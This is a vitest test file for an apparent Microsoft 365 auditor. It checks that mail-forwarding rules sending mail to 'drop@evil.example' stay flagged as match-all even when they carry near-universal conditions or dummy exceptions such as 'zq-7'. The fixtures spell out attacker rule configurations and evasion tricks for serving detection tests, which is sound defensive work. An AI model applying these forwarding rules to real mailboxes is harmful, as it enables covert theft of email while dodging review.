/**
 * Issue 7, conditions an attacker writes: a condition that is true for (nearly) every message
 * must not buy back the 40 points of match_all_forwarding, for inbox rules (Exchange and Graph)
 * and transport rules alike. Each test plants such a condition and fails if it narrows the rule.
 */
import { describe, expect, it } from 'vitest'
import { formatReport } from '../../core/report/formats/index.ts'
import { audit, categoriesOf, onlyFinding, smtpTarget, tenant } from '../core/tenant-builder.ts'

const ALEX = 'alex.wilber@contoso.com'
const DROP = smtpTarget('drop@evil.example')

const exchangeRule = (conditions: Record<string, unknown>) =>
  tenant()
    .mailbox(ALEX)
    .inboxRule(ALEX, { Name: 'Sync', ForwardTo: [DROP], ...conditions })

describe('inbox-rule conditions true for (nearly) every message', () => {
  it.each([
    ['header contains Received', { HeaderContainsWords: ['Received'] }],
    ['header contains X-MS-Exchange', { HeaderContainsWords: ['X-MS-Exchange-Organization'] }],
    ['header contains outlook.com', { HeaderContainsWords: ['outlook.com'] }],
    ['size at least 1 byte', { WithinSizeRangeMinimum: '1 B (1 bytes)' }],
    ['size at least 1 KB', { WithinSizeRangeMinimum: '1KB' }],
    ['size at most 150 MB', { WithinSizeRangeMaximum: '150 MB (157,286,400 bytes)' }],
    ['importance Normal', { WithImportance: 'Normal' }],
    ['my name in To or Cc', { MyNameInToOrCcBox: true }],
    ['my name in To', { MyNameInToBox: true }],
    ['a two-letter subject word', { SubjectContainsWords: ['re'] }],
    ['a one-letter body word', { BodyContainsWords: ['e'] }],
    ['a punctuation-only word', { SubjectOrBodyContainsWords: ['.'] }],
    ['sender contains @', { FromAddressContainsWords: ['@'] }],
    ['sender contains .com', { FromAddressContainsWords: ['.com'] }],
    ['recipient contains the tenant domain', { RecipientAddressContainsWords: ['@contoso.com'] }],
    [
      'several broad conditions together',
      { HeaderContainsWords: ['Received'], WithImportance: 'Normal', MyNameInToOrCcBox: true },
    ],
    ['one narrow word among broad ones', { SubjectContainsWords: ['invoice', 're'] }],
  ])('%s does not narrow the rule', async (_, conditions) => {
    const finding = await onlyFinding(exchangeRule(conditions))
    expect(categoriesOf(finding)).toContain('match_all_forwarding')
    const factor = finding.risk_factors.find((f) => f.category === 'match_all_forwarding')
    expect(factor?.description).toMatch(/no condition narrows it/)
  })

  it.each([
    ['subject contains invoice', { SubjectContainsWords: ['invoice'] }],
    ['header contains a custom marker', { HeaderContainsWords: ['X-Contoso-Payroll'] }],
    ['size at least 5 MB', { WithinSizeRangeMinimum: '5 MB (5,242,880 bytes)' }],
    ['importance High', { WithImportance: 'High' }],
    ['from a named sender', { From: ['"CFO" [SMTP:cfo@contoso.com]'] }],
    ['a broad condition and a narrow one', { WithImportance: 'Normal', HasAttachment: true }],
  ])('%s narrows the rule', async (_, conditions) => {
    const finding = await onlyFinding(exchangeRule(conditions))
    expect(categoriesOf(finding)).not.toContain('match_all_forwarding')
  })

  it.each([
    ['headerContains Received', { headerContains: ['Received'] }],
    ['size from 0 KB', { withinSizeRange: { minimumSize: 0, maximumSize: 2097151 } }],
    ['importance normal', { importance: 'normal' }],
    ['sent to or Cc me', { sentToOrCcMe: true }],
    ['senderContains @', { senderContains: ['@'] }],
    ['senderContains com', { senderContains: ['com'] }],
  ])('a Graph rule with %s does not narrow the rule', async (_, conditions) => {
    const finding = await onlyFinding(
      tenant()
        .mailbox(ALEX)
        .graphRule(ALEX, {
          displayName: 'Sync',
          conditions,
          actions: { forwardTo: [{ emailAddress: { address: 'drop@evil.example' } }] },
        })
    )
    expect(categoriesOf(finding)).toContain('match_all_forwarding')
  })
})

describe('transport-rule predicates true for (nearly) every message', () => {
  const transport = (conditions: Record<string, unknown>) =>
    tenant()
      .mailbox(ALEX)
      .transportRule({ Name: 'Journal copy', BlindCopyTo: ['drop@evil.example'], ...conditions })

  it.each([
    ['header contains Received', { HeaderContainsWords: ['Received'] }],
    ['message size over 0', { MessageSizeOver: '0 B (0 bytes)' }],
    ['subject matches .*', { SubjectMatchesPatterns: ['.*'] }],
    ['sender matches @', { FromAddressMatchesPatterns: ['@'] }],
    ['sender domain is com', { SenderDomainIs: ['com'] }],
    ['recipient domain is the tenant', { RecipientDomainIs: ['contoso.com'] }],
    ['importance Normal', { WithImportance: 'Normal' }],
  ])('%s is organization-wide and match-all', async (_, conditions) => {
    const finding = await onlyFinding(transport(conditions), {
      all_users: true,
      include_transport_rules: true,
    })
    expect(categoriesOf(finding)).toEqual(
      expect.arrayContaining(['match_all_forwarding', 'organization_wide'])
    )
  })

  it.each([
    ['subject contains invoice', { SubjectContainsWords: ['invoice'] }],
    ['from a named sender', { From: ['cfo@contoso.com'] }],
    ['sender domain is a partner', { SenderDomainIs: ['fabrikam.com'] }],
  ])('%s narrows the rule', async (_, conditions) => {
    const finding = await onlyFinding(transport(conditions), {
      all_users: true,
      include_transport_rules: true,
    })
    expect(categoriesOf(finding)).not.toContain('match_all_forwarding')
    expect(categoriesOf(finding)).not.toContain('organization_wide')
  })
})

describe('exceptions an attacker writes', () => {
  // An exception takes mail out of a rule. A dummy one ("except if the subject contains
  // 'zq-7'") must not buy back match_all_forwarding, and no report may call the rule one that
  // forwards "all mail" without showing what its exceptions spare.
  it.each([
    ['an inbox rule', exchangeRule({ ExceptIfSubjectContainsWords: ['zq-7'] }), {}],
    [
      'a Graph rule',
      tenant()
        .mailbox(ALEX)
        .graphRule(ALEX, {
          displayName: 'Sync',
          exceptions: { subjectContains: ['zq-7'] },
          actions: { forwardTo: [{ emailAddress: { address: 'drop@evil.example' } }] },
        }),
      {},
    ],
    [
      'a transport rule',
      tenant()
        .mailbox(ALEX)
        .transportRule({
          Name: 'Journal copy',
          BlindCopyTo: ['drop@evil.example'],
          ExceptIfSubjectContainsWords: ['zq-7'],
        }),
      { all_users: true, include_transport_rules: true },
    ],
  ])(
    'a dummy exception on %s stays match-all, and every format shows it',
    async (_, built, request) => {
      const report = await audit(built, { all_users: true, ...request })
      const finding = report.data.findings[0]
      expect(report.data.findings).toHaveLength(1)
      expect(categoriesOf(finding as never)).toContain('match_all_forwarding')
      expect(finding?.exceptions?.join(' | ')).toMatch(/^subject contains (words )?'zq-7'$/)
      const factor = finding?.risk_factors.find((f) => f.category === 'match_all_forwarding')
      expect(factor?.description).toContain('zq-7')
      for (const format of ['table', 'markdown', 'csv', 'sarif'] as const) {
        const text = formatReport(report, format, { color: false, explain: true, width: 240 })
        expect(text, format).toContain('zq-7')
        expect(text, format).not.toMatch(/forwards all mail to/)
      }
    }
  )

  it('a rule without exceptions has no exceptions field', async () => {
    const finding = await onlyFinding(exchangeRule({}))
    expect(finding.exceptions).toBeUndefined()
  })
})
